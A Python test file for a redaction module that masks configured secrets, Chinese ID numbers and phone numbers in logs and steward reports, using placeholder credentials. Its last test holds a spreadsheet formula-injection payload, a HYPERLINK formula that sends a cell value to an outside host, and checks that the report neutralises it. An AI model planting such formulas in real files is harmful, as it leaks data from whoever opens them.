"""Secrets and personal values kept out of logs and reports (no database needed)."""

from __future__ import annotations

import logging

from fupin.config import parse_config
from fupin.privacy.redact import (
    WITHHELD,
    configured_secrets,
    install_log_redaction,
    mask_key,
    redact,
    report_row,
)

ID = "52012319800101011X"


def config():
    return parse_config(
        {
            "province": "52",
            "warehouse": {"dsn": "postgresql://fupin:wh-Pa55@db:5432/fupin"},
            "landing": {"root": "/srv/landing"},
            "sources": {
                "vehicle": {"base_url": "https://v", "token": "veh-token-1"},
                "business": {"base_url": "https://b", "api_key": "biz-key-2"},
                "dibao": {"dsn": "postgresql://mz:mz-Secret@mz/db"},
            },
            "national": {"base_url": "https://n", "sender_id": "520000", "secret": "nat-s3cret"},
        }
    )


def test_every_configured_secret_is_collected():
    secrets = configured_secrets(config())
    for value in ("wh-Pa55", "veh-token-1", "biz-key-2", "mz-Secret", "nat-s3cret"):
        assert value in secrets
    assert "postgresql://fupin:wh-Pa55@db:5432/fupin" in secrets


def test_text_redaction_masks_ids_phones_and_secrets_not_household_ids():
    text = f"key 52012310020100000001|{ID} phone 13800001234 legacy 520123800101011 pw nat-s3cret"
    clean = redact(text, ["nat-s3cret"])
    assert clean == (
        "key 52012310020100000001|520123********011X phone 138****1234"
        " legacy 520123*****1011 pw ***"
    )
    assert mask_key(f"52012310020100000001|{ID}") == "52012310020100000001|520123********011X"


def test_log_records_are_redacted_whoever_handles_them(caplog):
    install_log_redaction(["nat-s3cret"])
    logger = logging.getLogger("fupin.test")
    with caplog.at_level(logging.INFO):
        logger.info("rejected %s with %s", ID, "nat-s3cret")
        try:
            raise ValueError(f"row 7 证件号码 {ID}")
        except ValueError:
            logger.exception("failed")
    text = caplog.text
    assert ID not in text and "nat-s3cret" not in text
    assert "520123********011X" in text and "***" in text


def test_steward_report_rows_hide_personal_values_and_formulas():
    row = ("registry/a.xlsx", 7, "证件号码", ID, f"bad check digit {ID}", "b1")
    assert report_row(row) == [
        "registry/a.xlsx",
        7,
        "证件号码",
        "520123********011X",
        "bad check digit 520123********011X",
        "b1",
    ]
    assert report_row(("f", 2, "姓名", "张三", "r", "b"))[3] == WITHHELD
    formula = '=HYPERLINK("http://x/?leak="&B2,"click")'
    assert report_row(("f", 2, "村代码", formula, "r", "b"))[3] == "'" + formula
